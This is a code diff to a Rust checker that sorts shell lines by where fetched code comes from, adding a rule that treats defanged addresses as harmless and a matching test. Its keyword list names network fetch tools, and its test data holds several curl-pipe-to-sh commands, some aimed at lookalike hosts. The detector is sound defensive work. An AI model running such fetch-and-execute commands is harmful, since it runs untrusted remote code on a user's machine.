@@ -149,6 +149,10 @@ fn source_of(line: &str) -> Source {
     let fetches = line.split(|c: char| !c.is_ascii_alphanumeric() && c != '-').any(|word| {
         matches!(word, "curl" | "wget" | "iwr" | "irm" | "Invoke-WebRequest" | "Invoke-RestMethod")
     });
+    // An address that is written so that nothing follows it is shown, not run.
+    if ["hxxp", "[.]", "[:]"].iter().any(|mark| line.contains(mark)) {
+        return Source::Nowhere;
+    }
     if !fetches || line.contains(['$', '`', '%', '\n']) {
         return Source::Somewhere;
     }
@@ -224,6 +228,7 @@ mod tests {
             ),
             ("curl https://sh.rustup.rs.a.invalid | sh", Source::Somewhere),
             ("curl https://sh.rustup.rs@a.invalid/ | sh", Source::Somewhere),
+            ("curl hxxps://a[.]invalid/x | sh", Source::Nowhere),
             ("curl http://sh.rustup.rs | sh", Source::Somewhere),
             ("curl -sSk https://sh.rustup.rs | sh", Source::Somewhere),
             ("curl https://astral.sh/other | sh", Source::Somewhere),
